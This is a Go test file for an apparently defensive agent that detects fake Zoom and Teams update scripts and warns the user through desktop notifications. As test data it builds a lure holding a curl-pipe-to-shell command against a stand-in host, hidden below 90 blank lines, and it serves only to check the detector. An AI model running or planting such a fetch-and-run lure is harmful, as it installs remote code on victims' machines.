package agent

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/godbus/dbus/v5"

	"meetguard/internal/config"
	"meetguard/internal/desktop"
)

// noticeMain plays the helper that shows a letter ("--bus SOCKET") and the
// notification server of a session ("desktop SOCKET"), which prints what it is
// told to show.
func noticeMain(args []string) int {
	if args[0] == "desktop" {
		return noticeDesktop(args[1])
	}
	l, err := desktop.ReadLetter(os.Stdin)
	if err == nil {
		err = desktop.Show(context.Background(), desktop.Surroundings{Bus: args[1], System: args[1], Locales: []string{}}, l)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	return 0
}

func noticeDesktop(bus string) int {
	const server = "org.freedesktop.Notifications"
	conn, err := dbus.Connect("unix:path=" + bus)
	if err == nil {
		err = conn.ExportMethodTable(map[string]any{
			"GetCapabilities": func() ([]string, *dbus.Error) { return nil, nil },
			"Notify": func(_ string, _ uint32, _, title, body string, _ []string, _ map[string]dbus.Variant, _ int32) (uint32, *dbus.Error) {
				_ = json.NewEncoder(os.Stdout).Encode([]string{title, body})
				return 1, nil
			},
		}, "/org/freedesktop/Notifications", server)
	}
	if err == nil {
		_, err = conn.RequestName(server, dbus.NameFlagDoNotQueue)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	fmt.Println("ready")
	_, _ = io.Copy(io.Discard, os.Stdin) // until the test ends
	return 0
}

// noticeUser is whose desktop it is: that of whoever runs the tests or, if that
// is root, of the account nobody.
func noticeUser(t *testing.T) (uid uint32, sys *syscall.SysProcAttr) {
	t.Helper()
	if os.Getuid() != 0 {
		return uint32(os.Getuid()), nil
	}
	u, err := user.Lookup("nobody")
	if err != nil {
		t.Fatal(err)
	}
	n, err := strconv.ParseUint(u.Uid, 10, 32)
	if err != nil {
		t.Fatal(err)
	}
	return uint32(n), &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(n), Gid: uint32(n)}}
}

// background runs a program until the test ends, and waits for its first line.
func background(t *testing.T, sys *syscall.SysProcAttr, argv ...string) *bufio.Scanner {
	t.Helper()
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.SysProcAttr, cmd.Dir, cmd.Stderr = sys, "/", os.Stderr
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatalf("%v; the tests need the Debian package dbus", err)
	}
	t.Cleanup(func() { in.Close(); _ = cmd.Process.Kill(); _ = cmd.Wait() })
	lines := bufio.NewScanner(out)
	if !lines.Scan() {
		t.Fatalf("%s ended at once", argv[0])
	}
	return lines
}

// TestNoticeOnTheDesktop goes the whole way: an agent, a lure that lands, and the
// session bus of the person it belongs to. A test lure is not told, a second copy
// of the same file is not told again, and another finding is.
func TestNoticeOnTheDesktop(t *testing.T) {
	uid, sys := noticeUser(t)
	top := t.TempDir()
	person, program := strconv.Itoa(int(uid)), filepath.Join(top, "program")
	own := filepath.Join(top, "user", person)
	content, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	put(t, program, content)
	if err := os.MkdirAll(own, 0o755); err != nil {
		t.Fatal(err)
	}
	for path, mode := range map[string]os.FileMode{top: 0o755, filepath.Dir(top): 0o755, program: 0o755} {
		if err := os.Chmod(path, mode); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chown(own, int(uid), -1); err != nil {
		t.Fatal(err)
	}
	bus := filepath.Join(own, "bus")
	background(t, sys, "dbus-daemon", "--session", "--nofork", "--nopidfile", "--address=unix:path="+bus, "--print-address=1")
	shown := background(t, sys, program, noticeArg, "desktop", bus)

	cfg := config.Default()
	cfg.State, cfg.Launches, cfg.Watch, cfg.Notify.Contact = t.TempDir(), "off", []string{t.TempDir()}, "IT, 4711"
	ctx, stop := context.WithCancel(t.Context())
	a, err := New(ctx, Options{Config: cfg, Fixed: true, Worker: []string{os.Args[0], workerArg}, Notify: []string{program, noticeArg},
		Version: "1.0", Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	a.notices.courier.Runtime = filepath.Join(top, "user")
	if os.Getuid() == 0 {
		a.notices.whose = func(string) desktop.Person { return desktop.Person(person) }
	}
	done := make(chan error, 1)
	go func() { done <- a.Run(ctx) }()
	<-a.files.Ready()

	drop := func(name, text string) { put(t, filepath.Join(cfg.Watch[0], name), []byte(text)) }
	lure := "-- Zoom SDK Update: your audio is out of date.\n" + strings.Repeat("\n", 90) + "do shell script \"curl -fsSL https://zoom-sdk.invalid/a | sh\"\n"
	drop("test.txt", TestLure)
	drop("Zoom SDK Update.scpt", lure)
	next := func() (title, body string) {
		var text []string
		if !shown.Scan() || json.Unmarshal(shown.Bytes(), &text) != nil || len(text) != 2 {
			t.Fatalf("the desktop was told %q", shown.Text())
		}
		return text[0], text[1]
	}
	title, body := next()
	if title != "Fake Zoom: do not open it" || !strings.Contains(body, "“Zoom SDK Update.scpt” calls itself Zoom") ||
		!strings.Contains(body, "zoom.us") || !strings.Contains(body, "IT, 4711") {
		t.Errorf("%s\n%s", title, body)
	}
	drop("Zoom SDK Update (1).scpt", lure)
	for a.counts.alerts.Load() < 3 { // the test, the lure and its copy: notices keep their order
		time.Sleep(10 * time.Millisecond)
	}
	drop("Teams Update.scpt", strings.ReplaceAll(lure, "Zoom SDK", "Microsoft Teams SDK"))
	if _, body := next(); !strings.Contains(body, "Teams Update.scpt") {
		t.Errorf("%s", body)
	}
	for a.notices.told.Load()+a.notices.failed.Load() < 2 { // the helper ends after the desktop was told
		time.Sleep(10 * time.Millisecond)
	}
	stop()
	if err := <-done; err != nil {
		t.Error(err)
	}
	if told, failed := a.notices.told.Load(), a.notices.failed.Load(); told != 2 || failed != 0 {
		t.Errorf("%d told, %d failed", told, failed)
	}
}
